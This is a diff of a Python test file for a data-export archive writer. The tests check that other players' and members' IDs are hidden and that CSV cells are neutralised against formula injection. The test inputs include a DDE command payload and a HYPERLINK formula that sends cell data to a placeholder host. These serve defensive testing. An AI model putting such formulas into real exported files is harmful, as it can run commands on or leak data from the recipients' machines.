@@ -4,15 +4,26 @@ import csv
 import io
 import json
 import random
+import re
+import unicodedata
 import zipfile
 from datetime import UTC, datetime
 from typing import Any
 
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from utils.models.personal import Archive
-from utils.models.scope import PlayerId
-from utils.services.personal.archives import DEATH_COLUMNS, ArchiveWriter, build_json, hide_others
+from utils.models.scope import MemberId, PlayerId
+from utils.services.personal.archives import (
+    DEATH_COLUMNS,
+    ArchiveWriter,
+    build_json,
+    hide_members,
+    hide_others,
+    make_inert,
+)
 
 OWN, OTHER = PlayerId("0002" + "a" * 28), PlayerId("0002" + "b" * 28)
 AT = datetime(2025, 4, 30, 10, 1, 2, tzinfo=UTC)
@@ -43,7 +54,7 @@ def read_rows(archive: Archive) -> list[dict[str, str]]:
     """Return the rows of an archive."""
     with zipfile.ZipFile(io.BytesIO(archive.content)) as files:
         assert files.testzip() is None
-        return list(csv.DictReader(io.StringIO(files.read("kills.csv").decode())))
+        return list(csv.DictReader(io.StringIO(files.read("kills.csv").decode(), newline="")))
 
 
 def test_row_has_every_column_and_no_id_of_somebody_else() -> None:
@@ -68,6 +79,7 @@ def test_row_has_every_column_and_no_id_of_somebody_else() -> None:
         "world": "world_0",
         "file": "f.csv",
         "offset": "5",
+        "ordered_at": "",
         "read_at": "",
         "fingerprint": "00" * 31 + "07",
     }
@@ -104,6 +116,51 @@ def test_data_is_read_as_json_with_iso_times() -> None:
         build_json({"what": object()})
 
 
-def test_lines_keep_no_id_of_others() -> None:
-    """The line is the person's, the other in it is not."""
-    assert hide_others(f"a;{OWN};b;{OTHER};", [OWN]) == f"a;{OWN};b;(another player);"
+@pytest.mark.parametrize("other", [OTHER, OTHER.upper(), "F" * 32, "0" * 40, OTHER + "a", OWN + "a"])
+def test_lines_keep_no_id_of_others(other: str) -> None:
+    """The line is the person's, the other in it is not, whatever is wrong with the id."""
+    assert hide_others(f"a;{OWN};b;{other};", [OWN]) == f"a;{OWN};b;(another player);"
+    assert hide_others(f"a;{OWN.upper()};{other[:20]}", [OWN]) == f"a;{OWN};(another player)"
+
+
+BEGINNINGS = ("=", "+", "-", "@", "\t", "\r", "\n", "\x00", " =", "＝", "\u00a0=")  # noqa: RUF001
+FORMULAS = st.builds(
+    "".join,
+    st.tuples(
+        st.sampled_from(["", "Ann", "Ann;", "a;b;", "Ann\t"]),
+        st.sampled_from(BEGINNINGS),
+        st.sampled_from(["", "cmd|'/C calc'!A0", 'HYPERLINK("http://x.example/?"&A1;"click")', "SUM(1)"]),
+    ),
+)
+
+
+@settings(max_examples=50)
+@given(st.lists(st.one_of(FORMULAS, st.text(max_size=20)), min_size=6, max_size=6))
+def test_no_cell_of_a_table_begins_a_formula(texts: list[str]) -> None:
+    """Neither where commas part cells nor where semicolons or tabs do; the letters stay in their order."""
+    columns = ("killer_name", "victim_name", "weapon", "world", "file", "victim_platform")
+    writer = ArchiveWriter({}, [OWN])
+    writer.add(texts[0], [build_death(7) | dict(zip(columns, texts, strict=True))])
+    archive = writer.finish()
+    [row] = read_rows(archive)
+    for column, text in zip(("server", *columns), (texts[0], *texts), strict=True):
+        assert row[column].replace("'", "") == text.replace("'", "")
+        for cell in re.split(r"[;\t\r\n]", row[column]):
+            assert not cell.lstrip().startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))  # noqa: RUF001
+        assert not row[column][:1] or unicodedata.category(row[column][0]) != "Cc"
+
+
+def test_names_without_a_formula_stay_as_they_are() -> None:
+    """A dash or an equals sign within a name is none."""
+    for name in ("Wolf", "a=b", "x-y", "me@home", "1+1", "Ä;Ö", "", "'quoted'", "(-_-)"):
+        assert make_inert(name) == name
+
+
+def test_texts_mention_no_other_member() -> None:
+    """At any depth; the person's own mention, roles and channels stay."""
+    data = {"changes": [{"detail": "<@5>: <@!77> and <@5> got <@&9> in <#8>", "at": AT}], "number": 77}
+    assert hide_members(data, MemberId(5)) == {
+        "changes": [{"detail": "<@5>: (another member) and <@5> got <@&9> in <#8>", "at": AT}],
+        "number": 77,
+    }
+    assert hide_members("<@5>", None) == "(another member)"
